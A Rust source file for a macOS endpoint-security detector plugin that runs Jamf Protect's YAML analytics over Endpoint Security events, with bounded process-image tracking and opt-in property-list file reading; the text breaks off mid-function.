//! Detector: runs Jamf Protect custom analytics — the YAML format of Jamf's public library,
//! NSPredicate filters over `$event` — on Endpoint Security events.
//!
//! The public corpus is bundled (MIT, see `analytics/NOTICE.md`); the admin adds their own
//! with `config_dirs = { analytics = "<dir>" }` (config key `analytics`: every `*.yaml` /
//! `*.yml` under the directory, read by the host) and may drop the corpus with
//! `bundled = "false"`. An analytic that does not parse is skipped with a warning naming
//! its file, line and column; the others load. Each event is mapped once to the Jamf
//! event model (`GPProcessEvent` from exec/exit, `GPFSEvent` from
//! create/rename/unlink/close/write with Jamf's type codes, parent and responsible from the
//! agent's process table, `signerType` from the signer class), then every analytic of that
//! input type is evaluated in `level` order; an analytic that fires adds its name and tags
//! to `$tags` and its context values to `$context` for higher levels. The model is not
//! built as JSON: [`model::JamfEvent`] answers each key path from the typed event, and
//! builds a value only when an analytic first reads it. Its JSON form is
//! [`jamf_event_with`], with the relatives and file contents attached so far.
//!
//! ES gives a process's arguments only in its exec event, but Jamf's process object carries
//! `args` everywhere (exit, file events, relatives) and names the process-group leader
//! (`pgprocess`): the detector remembers the images it saw exec ([`Images`]) to fill them in.
//!
//! # File contents: `read_file_contents`
//!
//! ES carries no file contents, but a few analytics read the Jamf model's
//! `$event.file.contentsAsDict` (the file as a property list) and `file.snapshotData` (its
//! contents before the change). With the config option `read_file_contents = "true"` the
//! detector requests the `plist-read` capability (not granted by the admin, the plugin is
//! refused at load; files outside its granted `file_scope` are denied) and fills them in
//! for file events ([`FileContents`]):
//!
//! - At load it finds the `GPFSEvent` analytics whose filter or context reads
//!   `contentsAsDict` or `snapshotData`; none found, nothing is ever read. From each filter
//!   it derives a gate: the filter with every comparison that contents (or lower levels'
//!   `$tags`/`$context`) decide made as permissive as possible. A file event is read only
//!   when some gate holds for it, so only the files those analytics name (Terminal and
//!   Time Machine preferences, root's user record) are read, once per event.
//! - `contentsAsDict` is the property list at the event's path, read after ES reported the
//!   change (so it may already be newer). Absent file, unreadable file, a plist that is not
//!   a dictionary or a denied read leave it absent (`nil`), which is what the filters see
//!   today. A denied read is logged once per instance, as a warning.
//! - Data values that hold a property-list dictionary get Jamf's `asPlistDict` accessor:
//!   `{"asPlistDict": {…}}` in place of the base64 text (only when an analytic uses
//!   `asPlistDict`). Other data stay base64 strings, dates RFC 3339 strings.
//! - `snapshotData` is ward's reading of Jamf's snapshot: the contents the detector last
//!   read from the same path, as `{"asPlistDict": {…}}` (raw bytes are not kept). It is
//!   kept only for the literal paths (`$event.path == "…"`) of the analytics that compare
//!   with it, read first at load and then at every event read. Without a previous reading
//!   (the file did not exist, or the read failed) it is absent.
//!
//! Off (the default), no capability is requested, nothing is read, and those keys are
//! always absent: `TerminalPersistency` and `RootUserEnabledOrPasswordChanged` cannot fire
//! and `TimeMachineNotEncrypted` fires on every create, rename onto or write of the system
//! Time Machine preferences, whatever they say.
//!
//! # Bounds
//!
//! The stream is the attacker's and admin analytics may be careless, so what either can grow
//! is bounded, in bytes as well as in count:
//!
//! - An analytic that ward-predicate refuses (nested past its limit, deep or aliased YAML,
//!   too big, a back-reference) is skipped with its file, line, column and name; the others
//!   load.
//! - Each process object of a Jamf event (`args`, `commandLine`) keeps at most
//!   [`MAX_REMEMBERED_ARGS`] arguments of [`MAX_REMEMBERED_ARG_BYTES`], [`MAX_ARGS_BYTES`] in
//!   all, the exec'd process included; [`Images`] holds at most [`MAX_IMAGES`] images and
//!   [`MAX_IMAGES_BYTES`], at amortised O(1) per exec.
//! - Every event gets one [`RegexBudget`] for the `MATCHES` patterns that need backtracking
//!   (look-around), shared by the content gates and all analytics; a match it cuts short is
//!   false, counted in [`RegexUse`], and logged at the 1st, 2nd, 4th … such event.
//! - File contents: at most [`MAX_CONTENTS_JSON_BYTES`] of JSON per read, nested property
//!   lists within [`NESTED_PLIST_LIMITS`] per read and [`MAX_CONTENTS_DEPTH`] deep,
//!   snapshots for at most [`MAX_SNAPSHOT_PATHS`] paths and [`MAX_SNAPSHOT_BYTES`].
//! - Context values are cut to [`MAX_CONTEXT_VALUE_BYTES`].

use std::borrow::Cow;
use std::collections::{HashMap, VecDeque};

use base64::Engine as _;
use serde_json::{Map, Value, json};
use ward_predicate::{Analytic, Expr, Operand, Predicate, RegexBudget, RegexStats, Regexes, Vars};
use ward_sdk::enrich::EnrichError;
use ward_sdk::prelude::*;
use ward_sdk::{AuditToken, Destination, File};

pub mod model;
use model::JamfEvent;

include!(concat!(env!("OUT_DIR"), "/bundled.rs"));

/// Jamf `signerType` codes: 0 Apple, 1 App Store, 2 Developer ID, 3 ad hoc, 4 unsigned.
fn signer_code(signer: SignerType) -> i64 {
    match signer {
        SignerType::Apple => 0,
        SignerType::AppStore => 1,
        SignerType::DeveloperId | SignerType::Development => 2,
        SignerType::Adhoc => 3,
        SignerType::Unsigned => 4,
    }
}

/// A JSON object of `entries`, built directly: `json!` serializes every value, copying each
/// string a second time, and the model is built for every event.
fn object<const N: usize>(entries: [(&str, Value); N]) -> Value {
    Value::Object(
        entries
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v))
            .collect(),
    )
}

fn string(s: Option<&str>) -> Value {
    Value::String(s.unwrap_or_default().to_owned())
}

fn signing_info(p: &Process) -> Value {
    object([
        ("appid", string(p.signing_id.as_deref())),
        ("teamid", string(p.team_id.as_deref())),
        ("signerType", Value::from(signer_code(p.signer))),
        ("cdhash", string(p.cdhash.as_deref())),
    ])
}

/// How many exec'd images [`Images`] remembers; the oldest are forgotten first.
pub const MAX_IMAGES: usize = 4096;

/// Bytes [`Images`] holds in all (arguments and the process record, as `image_bytes` counts):
/// protects the plugin's 64 MiB memory from a stream of execs with long command lines.
/// Ordinary images take a few hundred bytes, so [`MAX_IMAGES`] binds first; at the
/// per-image cap ([`MAX_ARGS_BYTES`]) 128 images fit.
pub const MAX_IMAGES_BYTES: usize = 8 << 20;

/// Arguments the detector keeps of a process (remembered or exec'd: the Jamf event shows
/// no more).
pub const MAX_REMEMBERED_ARGS: usize = 256;
/// Bytes kept of one argument.
pub const MAX_REMEMBERED_ARG_BYTES: usize = 4096;
/// Bytes of arguments kept of one process in all: bounds each process object of a Jamf
/// event (`args` and `commandLine`, up to four per event) and what every analytic
/// comparison on them costs. Arguments past it are dropped, the last one cut.
pub const MAX_ARGS_BYTES: usize = 64 << 10;

/// `args` as the detector keeps them: at most [`MAX_REMEMBERED_ARGS`], each at most
/// [`MAX_REMEMBERED_ARG_BYTES`], [`MAX_ARGS_BYTES`] in all. What analytics match on (the
/// program, its flags, the first arguments) is kept.
pub fn bounded_args(args: &[String]) -> Vec<String> {
    let mut left = MAX_ARGS_BYTES;
    let mut out = Vec::new();
    for arg in args.iter().take(MAX_REMEMBERED_ARGS) {
        if left == 0 {
            break;
        }
        let kept = ward_sdk::truncated(arg, MAX_REMEMBERED_ARG_BYTES.min(left));
        left -= kept.len();
        out.push(kept.to_owned());
    }
    out
}

/// What remembering `process` with `args` costs in [`MAX_IMAGES_BYTES`]: the strings, and
/// a fixed share for the record and its table entries.
fn image_bytes(process: &Process, args: &[String]) -> usize {
    let text = |s: &Option<String>| s.as_ref().map_or(0, String::len);
    512 + process.path().len()
        + text(&process.signing_id)
        + text(&process.team_id)
        + text(&process.cdhash)
        + text(&process.start_time)
        + process.tty.as_ref().map_or(0, |t| t.path.len())
        + args.iter().map(|a| a.len() + 24).sum::<usize>()
}

/// One remembered image.
#[derive(Debug)]
struct Image {
    process: Process,
    args: Vec<String>,
    /// What it counts in [`MAX_IMAGES_BYTES`].
    bytes: usize,
    /// When it was recorded: a queue entry with another number is stale.
    seq: u64,
}

/// The process images this detector saw exec, with their arguments, until they exit (or
/// exec again). Bounded by [`MAX_IMAGES`] and [`MAX_IMAGES_BYTES`], the oldest forgotten
/// first; lost when the host replaces the instance, after which arguments of processes
/// started before are unknown (empty) again. Recording is amortised O(1): the insertion
/// queue holds at most `2 × MAX_IMAGES` entries, stale ones (re-recorded or forgotten
/// images) skipped when they come up and swept out when they are half the queue.
#[derive(Debug, Default)]
pub struct Images {
    by_token: HashMap<(i32, i32), Image>,
    /// The newest image of each pid (for the process-group leader, which ES names by pid).
    by_pid: HashMap<i32, i32>,
    /// Insertion order (key, seq), for forgetting the oldest; may hold stale entries.
    order: VecDeque<((i32, i32), u64)>,
    /// Sequence number of the next record.
    next_seq: u64,
    /// Sum of the remembered images' `bytes`.
    bytes: usize,
}

impl Images {
    /// Remembers `process`, started with `args` (kept as [`bounded_args`]).
    pub fn record(&mut self, process: &Process, args: &[String]) {
        let key = (process.token.pid, process.token.pidversion);
        let args = bounded_args(args);
        let bytes = image_bytes(process, &args);
        let seq = self.next_seq;
        self.next_seq += 1;
        self.remove(key);
        self.bytes += bytes;
        self.by_token.insert(
            key,
            Image {
                process: process.clone(),
                args,
                bytes,
                seq,
            },
        );
        self.by_pid.insert(key.0, key.1);
        self.order.push_back((key, seq));
        while self.by_token.len() > MAX_IMAGES || self.bytes > MAX_IMAGES_BYTES {
            let Some((old, old_seq)) = self.order.pop_front() else {
                break;
            };
            if self.by_token.get(&old).is_some_and(|i| i.seq == old_seq) {
                self.forget_key(old);
            }
        }
        if self.order.len() > 2 * MAX_IMAGES {
            // Stale entries are at least half the queue: one sweep, paid for by the
            // MAX_IMAGES records since the last.
            let live = &self.by_token;
            self.order
                .retain(|(k, seq)| live.get(k).is_some_and(|i| i.seq == *seq));
        }
    }

    /// Forgets the image with `token` (it exited or exec'd another).
    pub fn forget(&mut self, token: AuditToken) {
        self.forget_key((token.pid, token.pidversion));
    }

    fn remove(&mut self, key: (i32, i32)) {
        if let Some(old) = self.by_token.remove(&key) {
            self.bytes -= old.bytes;
        }
    }

    fn forget_key(&mut self, key: (i32, i32)) {
        self.remove(key);
        if self.by_pid.get(&key.0) == Some(&key.1) {
            self.by_pid.remove(&key.0);
        }
    }

    /// The arguments the image with `token` was started with, if it was seen.
    pub fn args(&self, token: AuditToken) -> &[String] {
        self.by_token
            .get(&(token.pid, token.pidversion))
            .map_or(&[], |i| i.args.as_slice())
    }

    /// The image with `token`, if it was seen, with its arguments.
    fn get(&self, token: AuditToken) -> Option<(&Process, &[String])> {
        self.by_token
            .get(&(token.pid, token.pidversion))
            .map(|i| (&i.process, i.args.as_slice()))
    }

    /// The newest image seen for `pid`, with its arguments.
    fn by_pid(&self, pid: i32) -> Option<(&Process, &[String])> {
        let pidversion = self.by_pid.get(&pid)?;
        self.by_token
            .get(&(pid, *pidversion))
            .map(|i| (&i.process, i.args.as_slice()))
    }

    /// Bytes held, as counted against [`MAX_IMAGES_BYTES`].
    pub fn bytes(&self) -> usize {
        self.bytes
    }

    /// Number of remembered images.
    pub fn len(&self) -> usize {
        self.by_token.len()
    }

    /// True when none are remembered.
    pub fn is_empty(&self) -> bool {
        self.by_token.is_empty()
    }
}

/// A process in the Jamf model. `args` come from the exec (for the acting process) or from
/// [`Images`] (empty when the exec was not seen).
fn process(p: &Process, args: &[String]) -> Value {
    object([
        ("pid", Value::from(p.token.pid)),
        ("path", string(Some(p.path()))),
        ("name", string(Some(p.name()))),
        (
            "args",
            Value::Array(args.iter().map(|a| Value::String(a.clone())).collect()),
        ),
        ("commandLine", Value::String(args.join(" "))),
        (
            "tty",
            p.tty
                .as_ref()
                .map_or(Value::Null, |t| Value::String(t.path.clone())),
        ),
        ("isShell", Value::Bool(p.is_shell())),
        ("signingInfo", signing_info(p)),
    ])
}

/// The acting process with `parent` and `responsible` resolved through the process table
/// (their arguments from `images`), and `pgprocess`, the process-group leader, from
/// `images` (ES names it only by pid; itself when it leads its group).
fn process_with_relatives(p: &Process, args: &[String], images: &Images, relatives: bool) -> Value {
    let mut value = process(p, args);
    if relatives {
        add_relatives(&mut value, p, args, images);
    }
    value
}

/// Adds `parent`, `responsible` and `pgprocess` to `value`, the Jamf process of `p`.
fn add_relatives(value: &mut Value, p: &Process, args: &[String], images: &Images) {
    // Relatives the detector saw exec are at hand; only the others cost a host lookup.
    let relative = |token: Option<AuditToken>| {
        let token = token.filter(|t| (t.pid, t.pidversion) != (p.token.pid, p.token.pidversion));
        let Some(token) = token else {
            return Value::Null;
        };
        match images.get(token) {
            Some((q, q_args)) => process(q, q_args),
            None => ward_sdk::process::lookup(token)
                .map_or(Value::Null, |q| process(&q, images.args(q.token))),
        }
    };
    let leader = if p.group_id == p.token.pid {
        process(p, args)
    } else {
        images
            .by_pid(p.group_id)
            .map_or(Value::Null, |(q, q_args)| process(q, q_args))
    };
    if let Value::Object(map) = value {
        map.insert("parent".into(), relative(p.parent_token));
        map.insert("responsible".into(), relative(p.responsible_token));
        map.insert("pgprocess".into(), leader);
    }
}

fn is_dir(file: &File) -> bool {
    file.stat
        .as_ref()
        .is_some_and(|s| s.mode & 0o170000 == 0o040000)
}

/// Maps an event to (inputType, Jamf event as JSON, relatives included), or `None` for
/// kinds analytics do not see. Analytics are evaluated over [`JamfEvent`], which answers
/// every key path as [`jamf_event_with`] would with what it has attached (relatives, file
/// contents). `images` supplies the arguments of processes whose exec was seen earlier
/// (the acting process of exit and file events, relatives) and the process-group leader.
pub fn jamf_event(event: &Event, images: &Images) -> Option<(&'static str, Value)> {
    jamf_event_with(event, images, true)
}

/// [`jamf_event`], with the acting process's `parent`, `responsible` and `pgprocess` only
/// when `relatives` says so: the JSON form of what [`JamfEvent`] holds before and after
/// [`JamfEvent::attach_relatives`].
pub fn jamf_event_with(
    event: &Event,
    images: &Images,
    relatives: bool,
) -> Option<(&'static str, Value)> {
    let actor = || {
        process_with_relatives(
            &event.process,
            images.args(event.process.token),
            images,
            relatives,
        )
    };
    let fs =
        |kind: i64, path: &str, prev: Option<&str>, new: bool, new_dir: bool, modified: bool| {
            object([
                ("type", Value::from(kind)),
                ("path", string(Some(path))),
                ("prevFile", prev.map_or(Value::Null, |p| string(Some(p)))),
                ("isNew", Value::Bool(new)),
                ("isNewFile", Value::Bool(new && !new_dir)),
                ("isNewDirectory", Value::Bool(new_dir)),
                ("isModified", Value::Bool(modified)),
                ("file", object([("path", string(Some(path)))])),
                ("process", actor()),
            ])
        };
    Some(match &event.data {
        EventData::Exec(exec) => (
            "GPProcessEvent",
            object([
                ("type", Value::from(1)),
                (
                    "process",
                    process_with_relatives(
                        &exec.target,
                        &bounded_args(&exec.args),
                        images,
                        relatives,
                    ),
                ),
            ]),
        ),
        EventData::Exit(exit) => {
            let mut p = actor();
            if let Value::Object(map) = &mut p {
                map.insert(
                    "exitCode".into(),
                    exit.exit_code.map_or(Value::Null, Value::from),
                );
            }
            (
                "GPProcessEvent",
                object([("type", Value::from(2)), ("process", p)]),
            )
        }
        EventData::Create(c) => {
            let dir = match &c.destination {
                Destination::NewPath(n) => n.mode.is_some_and(|m| m & 0o170000 == 0o040000),
                Destination::ExistingFile(f) => is_dir(f),
            };
            let mut jamf = fs(if dir { 7 } else { 0 }, &c.path, None, true, dir, false);
            // A new directory with the `app` extension is an application bundle to
            // LaunchServices (Jamf's `file.isAppBundle`); only a create tells ward it is one.
            let app = dir
                && std::path::Path::new(&c.path)
                    .extension()
                    .is_some_and(|e| e.eq_ignore_ascii_case("app"));
            if let Some(Value::Object(file)) = jamf.get_mut("file") {
                file.insert("isAppBundle".into(), Value::Bool(app));
            }
            ("GPFSEvent", jamf)
        }
        // A rename changes the file at its destination: editors save by renaming a temporary
        // over the original, and Jamf's trash analytics expect moved bundles as modified.
        EventData::Rename(r) => (
            "GPFSEvent",
            fs(
                3,
                &r.destination_path,
                Some(&r.source.path),
                false,
                false,
                true,
            ),
        ),
        EventData::Unlink(u) => (
            "GPFSEvent",
            fs(1, &u.target.path, None, false, false, false),
        ),
        EventData::Close(c) if c.modified => {
            ("GPFSEvent", fs(4, &c.target.path, None, false, false, true))
        }
        EventData::Write(f) => ("GPFSEvent", fs(4, &f.path, None, false, false, true)),
        _ => return None,
    })
}

/// Finding severity from the analytic's.
fn severity(s: &str) -> Severity {
    match s.to_ascii_lowercase().as_str() {
        "low" => Severity::Low,
        "medium" => Severity::Medium,
        "high" => Severity::High,
        "critical" => Severity::Critical,
        _ => Severity::Informational,
    }
}

/// ATT&CK technique ids among an analytic's tags and MITRE categories.
fn techniques(a: &Analytic) -> Vec<String> {
    a.tags
        .iter()
        .chain(&a.mitre)
        .filter(|t| {
            t.len() >= 5
                && t.starts_with('T')
                && t.get(1..5)
                    .is_some_and(|d| d.chars().all(|c| c.is_ascii_digit()))
        })
        .cloned()
        .collect()
}

fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// The config key that lets the detector read the files analytics inspect.
pub const READ_FILE_CONTENTS: &str = "read_file_contents";

/// True when the admin set [`READ_FILE_CONTENTS`] to `true`.
fn read_file_contents() -> bool {
    ward_sdk::config(READ_FILE_CONTENTS).is_some_and(|v| v.trim().eq_ignore_ascii_case("true"))
}

/// Jamf's key for a file's contents as a property-list dictionary.
const CONTENTS: &str = "contentsAsDict";
/// Jamf's key for a file's contents before the change.
const SNAPSHOT: &str = "snapshotData";
/// Jamf's accessor decoding property-list data to a dictionary.
const PLIST_DATA: &str = "asPlistDict";

/// True if `debug` (a predicate tree or operand, `{:?}`) has the key path component `key`.
/// The tree is read through `Debug`: what it prints of a key is all this needs.
fn names_key(debug: &str, key: &str) -> bool {
    debug.contains(&format!("Name({key:?})"))
}

/// True if `analytic` reads `key` in its filter or context.
fn reads_key(analytic: &Analytic, key: &str) -> bool {
    names_key(&format!("{:?}", analytic.filter.expr), key)
        || analytic
            .context
            .iter()
            .any(|(_, exprs)| names_key(&format!("{exprs:?}"), key))
}

/// The keys of the acting process's relatives, which the model gets only once an analytic
/// that could fire needs them.
const RELATIVES: [&str; 3] = ["parent", "responsible", "pgprocess"];

/// True if `debug` (a predicate tree or operand, `{:?}`) reads a relative of a process.
fn names_relative(debug: &str) -> bool {
    RELATIVES.iter().any(|k| names_key(debug, k))
}

/// True if `operand`'s value is unknown before the file is read or the relatives are
/// resolved: file contents, what lower levels put in `$tags`/`$context`, the acting
/// process's relatives.
fn unknown_before_reading(operand: &Operand) -> bool {
    let debug = format!("{operand:?}");
    names_key(&debug, CONTENTS)
        || names_key(&debug, SNAPSHOT)
        || names_relative(&debug)
        || ["tags", "context"].iter().any(|v| {
            debug.contains(&format!("var: Some({v:?})"))
                || debug.contains(&format!("var: None, keys: [Name({v:?})"))
        })
}

/// `expr` with every comparison [`unknown_before_reading`] replaced by the constant that
/// lets the whole hold if anything can (`true` where it counts positively, `false` under
/// an odd number of `NOT`s): when the result is false, no contents can make `expr` true.
fn could_hold(expr: &Expr, positive: bool) -> Expr {
    match expr {
        Expr::And(all) => Expr::And(all.iter().map(|e| could_hold(e, positive)).collect()),
        Expr::Or(any) => Expr::Or(any.iter().map(|e| could_hold(e, positive)).collect()),
        Expr::Not(e) => Expr::Not(Box::new(could_hold(e, !positive))),
        Expr::Compare { lhs, rhs, .. }
            if unknown_before_reading(lhs) || unknown_before_reading(rhs) =>
        {
            Expr::Const(positive)
        }
        other => other.clone(),
    }
}

/// The literal paths a filter compares `$event.path` with (`$event.path == "…"`).
fn literal_paths(source: &str) -> Vec<String> {
    let mut paths = Vec::new();
    let mut rest = source;
    while let Some(at) = rest.find("$event.path") {
        rest = &rest[at + "$event.path".len()..];
        let after = rest.trim_start();
        let Some(after) = after.strip_prefix("==").or_else(|| after.strip_prefix('=')) else {
            continue;
        };
        let after = after.trim_start();
        let Some(quote) = after.chars().next().filter(|c| *c == '"' || *c == '\'') else {
            continue;
        };
        if let Some(end) = after[1..].find(quote) {
            paths.push(after[1..=end].to_owned());
        }
    }
    paths
}

/// Deepest nesting of a file's contents once the property lists in its data values are
/// decoded into it (root = 0). The host converts at most 128 deep (`serde_json` parses no
/// deeper either); decoded lists nest inside, and dropping, cloning and printing the Jamf
/// event recurse once per level on the plugin's 512 KiB wasm stack.
pub const MAX_CONTENTS_DEPTH: usize = 128;

/// Largest file contents accepted from `plist-read`, as JSON text: parsed, a value takes
/// several times its text, and the plugin has 64 MiB.
pub const MAX_CONTENTS_JSON_BYTES: usize = 2 << 20;

/// Values and JSON bytes all the property lists decoded from one file's data values may
/// produce together (`asPlistDict`): a data value may hold a binary property list whose
/// shared references expand without bound, and a file may hold many data values. The
/// largest real ones (dslocal's `accountPolicyData`, `ShadowHashData`) are a few KiB.
pub const NESTED_PLIST_LIMITS: ward_plist_json::Limits = ward_plist_json::Limits {
    max_depth: MAX_CONTENTS_DEPTH,
    max_nodes: 1 << 16,
    max_output_bytes: 1 << 20,
};

/// Paths whose contents are remembered for `snapshotData` (the literal paths of the
/// analytics that compare with it; the bundled corpus has one).
pub const MAX_SNAPSHOT_PATHS: usize = 32;

/// JSON bytes of remembered `snapshotData` contents in all; contents that would not fit
/// are not remembered (the next event sees no snapshot, as after a failed read).
pub const MAX_SNAPSHOT_BYTES: usize = 4 << 20;

/// The dictionary in `text` if it is base64 of a property list (XML or binary) whose root
/// is a dictionary, converted within `limits`, with what it used of them.
fn plist_data(
    text: &str,
    limits: &ward_plist_json::Limits,
) -> Option<(Value, ward_plist_json::Usage)> {
    // Cheap refusal first: the first 12 characters decode to the first 9 bytes.
    let head = base64::engine::general_purpose::STANDARD
        .decode(text.get(..12)?)
        .ok()?;
    if !(head.starts_with(b"bplist") || head.starts_with(b"<?xml") || head.starts_with(b"<plist")) {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(text.trim_end())
        .ok()?;
    // The host's own conversion, budgeted while it reads.
    ward_plist_json::parse_counted(&bytes, limits)
        .ok()
        .filter(|(v, _)| v.is_object())
}

/// Gives data values holding a property-list dictionary Jamf's `asPlistDict` accessor,
/// for `value` at `depth`, decoding within what is left of `budget`.
fn expose_plist_data(value: &mut Value, depth: usize, budget: &mut ward_plist_json::Limits) {
    if depth >= MAX_CONTENTS_DEPTH {
        return;
    }
    match value {
        Value::String(text) => {
            // `{asPlistDict: dict}` here: the dictionary one level down, its items two.
            let limits = ward_plist_json::Limits {
                max_depth: MAX_CONTENTS_DEPTH - depth - 1,
                ..*budget
            };
            if let Some((mut dict, used)) = plist_data(text, &limits) {
                *budget = budget.less(used);
                expose_plist_data(&mut dict, depth + 1, budget);
                *value = json!({ PLIST_DATA: dict });
            }
        }
        Value::Array(items) => items
            .iter_mut()
            .for_each(|v| expose_plist_data(v, depth + 1, budget)),
        Value::Object(map) => map
            .values_mut()
            .for_each(|v| expose_plist_data(v, depth + 1, budget)),
        _ => {}
    }
}

/// What one read of a file gave.
#[derive(Debug, Clone, PartialEq)]
enum Read {
    /// A property-list dictionary.
    Dict(Value),
    /// No file there (or not a dictionary).
    Absent,
    /// Denied or unreadable (or too large): nothing known.
    Failed,
}

/// The last contents read from a path compared with `snapshotData`.
#[derive(Debug)]
struct Snapshot {
    read: Read,
    /// What it counts in [`MAX_SNAPSHOT_BYTES`].
    bytes: usize,
}

/// File contents for the analytics that read them (`read_file_contents`), see the crate
/// documentation.
#[derive(Debug)]
pub struct FileContents {
    /// The gates ([`could_hold`]) of the file analytics that read contents.
    gates: Vec<Predicate>,
    /// Whether an analytic uses `asPlistDict`.
    plist_data: bool,
    /// Last contents read, for the paths an analytic compares with `snapshotData`.
    snapshots: HashMap<String, Snapshot>,
    /// Sum of the snapshots' `bytes`.
    snapshot_bytes: usize,
    /// A denied read was logged.
    warned: bool,
    /// Contents over [`MAX_CONTENTS_JSON_BYTES`] were logged.
    warned_size: bool,
    /// Files read so far (for tests).
    reads: usize,
}

impl FileContents {
    /// What `analytics` need, or `None` when no file analytic reads contents.
    fn for_analytics(analytics: &[Analytic]) -> Option<Self> {
        let readers: Vec<&Analytic> = analytics
            .iter()
            .filter(|a| a.input_type == "GPFSEvent")
            .filter(|a| reads_key(a, CONTENTS) || reads_key(a, SNAPSHOT))
            .collect();
        if readers.is_empty() {
            return None;
        }
        let mut contents = Self {
            gates: readers
                .iter()
                .map(|a| Predicate {
                    expr: could_hold(&a.filter.expr, true),
                    source: a.filter.source.clone(),
                })
                .collect(),
            plist_data: readers.iter().any(|a| reads_key(a, PLIST_DATA)),
            snapshots: HashMap::new(),
            snapshot_bytes: 0,
            warned: false,
            warned_size: false,
            reads: 0,
        };
        let mut snapshot_paths: Vec<String> = readers
            .iter()
            .filter(|a| reads_key(a, SNAPSHOT))
            .flat_map(|a| literal_paths(&a.filter.source))
            .collect();
        snapshot_paths.sort();
        snapshot_paths.dedup();
        if snapshot_paths.len() > MAX_SNAPSHOT_PATHS {
            ward_sdk::log::warn(&format!(
                "{READ_FILE_CONTENTS}: analytics compare snapshotData at {} paths; only the \
                 first {MAX_SNAPSHOT_PATHS} are remembered",
                snapshot_paths.len()
            ));
            snapshot_paths.truncate(MAX_SNAPSHOT_PATHS);
        }
        for path in snapshot_paths {
            let (read, bytes) = contents.read(&path);
            contents.remember(path, read, bytes);
        }
        Some(contents)
    }

    /// Makes `read` (of `bytes`) the snapshot of `path` if it fits [`MAX_SNAPSHOT_BYTES`]
    /// (otherwise nothing is known of it); returns the snapshot it replaces.
    fn remember(&mut self, path: String, read: Read, bytes: usize) -> Option<Read> {
        let old = self.snapshots.remove(&path);
        if let Some(old) = &old {
            self.snapshot_bytes -= old.bytes;
        }
        let (read, bytes) = if self.snapshot_bytes + bytes <= MAX_SNAPSHOT_BYTES {
            (read, bytes)
        } else {
            (Read::Failed, 0)
        };
        self.snapshot_bytes += bytes;
        self.snapshots.insert(path, Snapshot { read, bytes });
        old.map(|o| o.read)
    }

    /// Reads the property list at `path`: what it gave, and its size as JSON text (nested
    /// property lists decoded included).
    fn read(&mut self, path: &str) -> (Read, usize) {
        self.reads += 1;
        let answer = ward_sdk::enrich::plist(path);
        self.absorb_counted(path, answer)
    }

    /// Interprets the host's answer for `path`.
    #[cfg(test)]
    fn absorb(&mut self, path: &str, answer: Result<Option<String>, EnrichError>) -> Read {
        self.absorb_counted(path, answer).0
    }

    /// Interprets the host's answer for `path`, with its size as JSON text.
    fn absorb_counted(
        &mut self,
        path: &str,
        answer: Result<Option<String>, EnrichError>,
    ) -> (Read, usize) {
        let bytes = match &answer {
            Ok(Some(text)) => text.len(),
            _ => 0,
        };
        let mut budget = NESTED_PLIST_LIMITS;
        let read = match answer {
            Ok(Some(text)) if text.len() > MAX_CONTENTS_JSON_BYTES => {
                if !self.warned_size {
                    self.warned_size = true;
                    ward_sdk::log::warn(&format!(
                        "{READ_FILE_CONTENTS}: {path} is {} bytes as JSON, over the \
                         {MAX_CONTENTS_JSON_BYTES}-byte limit; analytics see no contents \
                         (logged once)",
                        text.len()
                    ));
                }
                Read::Failed
            }
            Ok(Some(text)) => match serde_json::from_str::<Value>(&text) {
                Ok(mut dict @ Value::Object(_)) => {
                    if self.plist_data {
                        expose_plist_data(&mut dict, 0, &mut budget);
                    }
                    Read::Dict(dict)
                }
                Ok(_) => Read::Absent,
                Err(_) => Read::Failed,
            },
            Ok(None) => Read::Absent,
            Err(EnrichError::Denied(why)) => {
                if !self.warned {
                    self.warned = true;
                    ward_sdk::log::warn(&format!(
                        "{READ_FILE_CONTENTS}: reading {path} was denied ({why}); analytics \
                         that read file contents see none (grant plist-read and a file_scope \
                         that holds the files; logged once)"
                    ));
                }
                Read::Failed
            }
            Err(EnrichError::Io(_)) => Read::Failed,
        };
        let decoded = NESTED_PLIST_LIMITS.max_output_bytes - budget.max_output_bytes;
        (read, bytes + decoded)
    }

    /// Fills `file.contentsAsDict` (and `file.snapshotData`) of the file event `jamf` when
    /// an analytic reading them could fire on it; the gates spend from `budget`.
    fn fill(&mut self, jamf: &mut JamfEvent<'_>, budget: &RegexBudget) {
        let vars = Vars::with_budget(jamf, budget);
        if !self.gates.iter().any(|g| g.eval(&vars)) {
            return;
        }
        let Some(path) = jamf.path().map(str::to_owned) else {
            return;
        };
        let (now, bytes) = self.read(&path);
        let before = match self.snapshots.get(&path) {
            // A failed read keeps the last known contents as the snapshot.
            Some(_) if now != Read::Failed => self
                .remember(path, now.clone(), bytes)
                .unwrap_or(Read::Failed),
            Some(slot) => slot.read.clone(),
            None => Read::Failed,
        };
        let contents = match now {
            Read::Dict(dict) => Some(dict),
            _ => None,
        };
        let snapshot = match before {
            Read::Dict(dict) => Some(json!({ PLIST_DATA: dict })),
            _ => None,
        };
        jamf.set_contents(contents, snapshot);
    }
}

/// The detector: the loaded analytics, by level, the images it saw exec, and (with
/// `read_file_contents`) what it needs to read files.
pub struct JamfAnalytics {
    analytics: Vec<Analytic>,
    /// Per analytic (same order): the Jamf event type code its filter pins, if any, so
    /// an analytic is not evaluated on events of another type.
    event_types: Vec<Option<i64>>,
    /// Per analytic (same order): for a filter that reads a relative of the acting
    /// process, its gate ([`could_hold`]): false on the model without relatives means no
    /// relative can make the filter hold, so the relatives (three processes, perhaps host
    /// lookups) are built only when an analytic that could fire reads them.
    relative_gates: Vec<Option<Predicate>>,
    /// Per analytic: its context reads a relative (resolved when it fires).
    relatives_in_context: Vec<bool>,
    /// Events whose relatives were resolved (for tests).
    relatives_built: usize,
    images: Images,
    contents: Option<FileContents>,
    /// What the per-event regular-expression budgets saw.
    regex: RegexUse,
    /// Per inputType: which analytics an event could fire.
    index: HashMap<String, Candidates>,
}

/// The analytics of one inputType, indexed on the string constants their filters require
/// ([`Predicate::index_key`]): an event is evaluated against the analytics its own values
/// select, and those with no such constant, not against all of them.
#[derive(Debug, Default)]
struct Candidates {
    /// Analytics without an index key (positions in `JamfAnalytics::analytics`).
    always: Vec<usize>,
    /// Per indexed key path and `[c]`: folded constant → analytics.
    keyed: Vec<(Operand, bool, HashMap<String, Vec<usize>>)>,
}

impl Candidates {
    fn add(&mut self, position: usize, analytic: &Analytic) {
        // The index is consulted on the model before relatives are added to it.
        let Some(key) = analytic
            .filter
